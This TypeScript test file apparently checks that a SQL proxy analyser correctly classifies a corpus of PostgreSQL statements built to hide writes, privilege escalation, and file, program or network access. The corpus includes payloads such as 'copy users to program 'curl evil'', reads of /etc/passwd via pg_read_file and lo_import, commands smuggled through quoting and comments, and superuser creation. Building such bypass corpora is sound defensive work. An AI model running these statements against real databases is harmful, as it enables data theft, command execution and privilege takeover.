/**
 * Statements that try to look harmless. Each is phrased as what a verdict is made of: class, tables read and written,
 * functions. The list only grows; an entry is never weakened.
 */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { ActionClass } from '../../engine/contract/input.ts';
import { createSqlAnalyser } from '../../proxy/sql/analyser.ts';
import type { SqlKnown } from '../../proxy/sql/facts.ts';
import { connect } from '../support/masked-database.ts';
import { startPostgres } from '../support/postgres-server.ts';

interface Facts {
  readonly class: ActionClass;
  readonly read?: string;
  readonly written?: string;
  readonly calls?: string;
}

const f = (kind: ActionClass, more: Omit<Facts, 'class'> = {}): Facts => ({ class: kind, ...more });

const CORPUS: readonly (readonly [string, Facts])[] = [
  // A write inside a read
  ['with d as (delete from users returning *) select * from d', f('write', { written: 'users' })],
  [
    'with x as (select 1), d as (update users set name = null) select 1',
    f('write', { written: 'users' }),
  ],
  ['select * from (with d as (select 1) select * from d) x', f('read')],
  [
    'with a as (with b as (select * from secrets) select * from b) select 1',
    f('read', { read: 'secrets' }),
  ],
  [
    'with recursive r as (select 1 union all (with z as (select * from secrets) select 1 from z, r)) table r',
    f('read', { read: 'secrets' }),
  ],
  ['select 1 into stolen', f('ddl', { written: 'stolen' })],
  ['select * into temp stolen from users', f('ddl', { read: 'users', written: 'stolen' })],
  [
    '(select * into stolen from users) union select 1',
    f('ddl', { read: 'users', written: 'stolen' }),
  ],
  ['select * from users for update', f('write', { read: 'users' })],
  ['select * from users for share of users', f('write', { read: 'users' })],
  ["select nextval('s')", f('write', { calls: 'nextval' })],
  ["select 1 from t order by setval('s', 1)", f('write', { read: 't', calls: 'setval' })],
  [
    "select * from generate_series(1, (select setval('s', 9)))",
    f('write', { calls: 'generate_series setval' }),
  ],
  ['table users', f('read', { read: 'users' })],
  ['values ((select count(*) from users))', f('read', { read: 'users', calls: 'count' })],
  // Several statements, comments, quoting
  ['select 1; drop table users', f('ddl', { written: 'users' })],
  ['select 1;;; --\n; truncate users', f('write', { written: 'users' })],
  ["select 'a\\'; delete from users; --'", f('write', { written: 'users' })],
  ["select E'a\\'; delete from users; --'", f('read')],
  ['select 1 /* /* */ ; drop table a; */ ; drop table b', f('ddl', { written: 'b' })],
  ['select 1 -- ; \r; drop table b', f('ddl', { written: 'b' })],
  ['select $a$ ; $$ drop table x $$ ; $a$ from "t;u"', f('read', { read: 't;u' })],
  ['select $$a$$; delete from users', f('write', { written: 'users' })],
  ['delete from U&"\\0075sers"', f('write', { written: 'users' })],
  ['delete from U&"!0075sers" uescape \'!\'', f('write', { written: 'users' })],
  ['delete/**/from/**/"public"/**/./**/"users"', f('write', { written: 'public.users' })],
  ['select * from "USERS", Users, "us""ers"', f('read', { read: 'USERS us"ers users' })],
  ['selECT 1 From ONLY (users)', f('read', { read: 'users' })],
  ['begin; commit; drop schema s cascade', f('ddl')],
  // It runs although it says otherwise
  ['explain analyze delete from users', f('write', { written: 'users' })],
  [
    'explain (analyze) insert into log select * from users',
    f('write', { read: 'users', written: 'log' }),
  ],
  ['explain (analyze on, costs off) update users set a = 1', f('write', { written: 'users' })],
  ['explain (analyze false, analyze true) delete from users', f('write', { written: 'users' })],
  ['explain (verbose, analyze 0) delete from users', f('read', { written: 'users' })],
  [
    'explain analyze create table stolen as select * from users',
    f('ddl', { read: 'users', written: 'stolen' }),
  ],
  ['explain analyze execute p', f('unknown')],
  ['prepare p as delete from users', f('write', { written: 'users' })],
  ['execute p', f('unknown')],
  [
    "declare c cursor for select pg_read_file('/etc/passwd')",
    f('admin', { calls: 'pg_read_file' }),
  ],
  ['create table x as execute p', f('unknown', { written: 'x' })],
  ['do $$ begin perform 1; end $$', f('unknown')],
  ['call p((select password from users))', f('unknown', { read: 'users', calls: 'p' })],
  // Files, programs, the network
  ["copy users to program 'curl evil'", f('admin', { read: 'users' })],
  ["copy users from program 'id'", f('admin', { written: 'users' })],
  ["copy (select * from users) to '/tmp/x'", f('admin', { read: 'users' })],
  ['copy (delete from users returning *) to stdout', f('write', { written: 'users' })],
  ['copy users from stdin', f('write', { written: 'users' })],
  ['copy users to stdout', f('read', { read: 'users' })],
  ["select lo_export(1, '/tmp/x')", f('admin', { calls: 'lo_export' })],
  ["select pg_catalog.lo_import('/etc/passwd')", f('admin', { calls: 'pg_catalog.lo_import' })],
  ["select * from pg_ls_dir('.')", f('admin', { calls: 'pg_ls_dir' })],
  [
    "select public.dblink_exec('x', 'drop table users')",
    f('admin', { calls: 'public.dblink_exec' }),
  ],
  [
    'select pg_terminate_backend(pid) from pg_stat_activity',
    f('admin', { read: 'pg_stat_activity', calls: 'pg_terminate_backend' }),
  ],
  [
    "select query_to_xml('delete from users', true, true, '')",
    f('unknown', { calls: 'query_to_xml' }),
  ],
  ['select U&"pg_\\0072ead_file"(\'/etc/passwd\')', f('admin', { calls: 'pg_read_file' })],
  ["load 'evil'", f('admin')],
  ['create extension dblink', f('admin')],
  ["alter system set archive_command = 'id'", f('admin')],
  ['checkpoint', f('admin')],
  // Who one is, how names and text are read
  ["select set_config('role', 'postgres', false)", f('privilege', { calls: 'set_config' })],
  [
    "select pg_catalog.set_config('ro' || 'le', 'postgres', false)",
    f('unknown', { calls: 'pg_catalog.set_config' }),
  ],
  ['set local role postgres', f('privilege')],
  ['set session authorization default', f('privilege')],
  ['set session_replication_role = replica', f('admin')],
  ['reset role', f('privilege')],
  ['grant all on users to public', f('privilege', { written: 'users' })],
  ['revoke select on users from a', f('privilege', { written: 'users' })],
  ['grant admin to me', f('privilege')],
  ['alter default privileges grant all on tables to public', f('privilege')],
  ['alter table users owner to me', f('privilege', { written: 'users' })],
  ['alter role me superuser', f('privilege')],
  ['create user evil superuser', f('privilege')],
  ['alter policy p on users using (true)', f('privilege', { written: 'users' })],
  ['alter table users disable row level security', f('privilege', { written: 'users' })],
  ["security label on table users is 'x'", f('privilege', { written: 'users' })],
  ['reassign owned by a to b', f('privilege')],
  // Code that runs later
  ['create function f() returns int language sql as $$ delete from users returning 1 $$', f('ddl')],
  [
    'create function f() returns int language sql begin atomic delete from users; select 1; end',
    f('ddl', { written: 'users' }),
  ],
  [
    'create rule r as on select to a do instead select * from secrets',
    f('ddl', { read: 'secrets', written: 'a' }),
  ],
  ['create rule r as on insert to a do also delete from users', f('ddl', { written: 'a users' })],
  [
    'create trigger t before insert on a execute function evil()',
    f('ddl', { written: 'a', calls: 'evil' }),
  ],
  ['create view v as select * from secrets', f('ddl', { read: 'secrets', written: 'v' })],
  [
    'create schema s create view v as select * from secrets',
    f('ddl', { read: 'secrets', written: 'v' }),
  ],
  ['create or replace view pg_temp.users as select 1', f('ddl', { written: 'pg_temp.users' })],
  // Tables in odd places
  ['with users as (select 1) delete from users', f('write', { written: 'users' })],
  ['with users as (select 1) select * from public.users', f('read', { read: 'public.users' })],
  ['with a as (select * from b), b as (select 1) select * from a', f('read', { read: 'b' })],
  ['select * from (a join secrets on true) x', f('read', { read: 'a secrets' })],
  ['select * from a, lateral (select * from secrets limit 1) z', f('read', { read: 'a secrets' })],
  [
    'select 1 from a group by grouping sets ((x), ()) having exists (select 1 from secrets)',
    f('read', { read: 'a secrets' }),
  ],
  ['select 1 limit (select count(*) from secrets)', f('read', { read: 'secrets', calls: 'count' })],
  [
    'select sum(x) filter (where y in (select z from secrets)) over (order by (select 1 from s2)) from a',
    f('read', { read: 'a s2 secrets', calls: 'sum' }),
  ],
  [
    'insert into a select * from secrets on conflict (id) do update set b = (select c from s2)',
    f('write', { read: 's2 secrets', written: 'a' }),
  ],
  ['update a set b = s.c from secrets s', f('write', { read: 'secrets', written: 'a' })],
  ['delete from a using secrets', f('write', { read: 'secrets', written: 'a' })],
  [
    'merge into a using secrets on true when matched then update set b = (select 1 from s2)',
    f('write', { read: 's2 secrets', written: 'a' }),
  ],
  ['create table b (like secrets)', f('ddl', { read: 'secrets', written: 'b' })],
  ['create index on users (leak(password))', f('ddl', { written: 'users', calls: 'leak' })],
  [
    'alter table a add constraint k foreign key (x) references secrets',
    f('ddl', { read: 'secrets', written: 'a' }),
  ],
  ['alter table a add check (evil(x))', f('ddl', { written: 'a', calls: 'evil' })],
  ['drop table a, b.c', f('ddl', { written: 'a b.c' })],
  ['drop trigger t on users', f('ddl', { written: 'users' })],
  ["comment on column users.password is 'x'", f('ddl', { written: 'users' })],
  ['truncate a, only b', f('write', { written: 'a b' })],
  ['refresh materialized view m', f('write', { written: 'm' })],
  ['lock table users', f('write', { read: 'users' })],
  ["notify ch, 'x'", f('write')],
  [
    "select * from xmltable('/r' passing (select doc from secrets) columns a int)",
    f('read', { read: 'secrets' }),
  ],
  [
    'select * from rows from (evil(1), generate_series(1, 2)) z',
    f('read', { calls: 'evil generate_series' }),
  ],
  [
    "select extract(year from now()), position('a' in 'b')",
    f('read', { calls: 'extract now position' }),
  ],
  ['vacuum full users', f('admin', { written: 'users' })],
];

const test = suite('bypass/sql');
const analyser = await createSqlAnalyser({ majorVersion: 15 });

function summary(facts: SqlKnown): Facts {
  const names = (list: readonly { readonly schema?: string; readonly name: string }[]): string =>
    [...new Set(list.map(({ schema, name }) => (schema ? `${schema}.${name}` : name)))]
      .sort()
      .join(' ');
  const tables = facts.statements.flatMap((statement) => statement.tables);
  const parts = {
    read: names(tables.filter(({ access }) => access === 'read')),
    written: names(tables.filter(({ access }) => access !== 'read')),
    calls: names(facts.statements.flatMap(({ functions }) => functions)),
  };
  return {
    class: facts.class,
    ...Object.fromEntries(Object.entries(parts).filter(([, v]) => v !== '')),
  };
}

for (const [sql, expected] of CORPUS) {
  test(sql, async () => {
    const facts = await analyser.analyse(sql);
    if (!facts.ok) assert.unreachable(facts.refusal.message);
    else assert.equal(summary(facts), expected);
  });
}

test('the list has not shrunk', () => {
  assert.ok(CORPUS.length >= 110);
});

test('the real server parses every statement of the list', async () => {
  const server = await startPostgres();
  if (server === undefined) {
    console.log('SKIP: no PostgreSQL server binaries to check the list against');
    return;
  }
  const client = await connect(server);
  for (const [sql] of CORPUS) {
    // In an aborted transaction a text is parsed and then refused (25P02) without being run.
    await client.query('begin');
    await client.query('select 1/0').catch(() => {});
    const code = await client.query(sql).then(
      () => 'run',
      (fault: { readonly code?: string }) => fault.code,
    );
    assert.ok(code === '25P02' || code === 'run' || code === '3B001', `${sql}: ${code}`);
    await client.query('rollback');
  }
  await client.end();
  await server.stop();
});

test.after(() => analyser.close());

test.run();
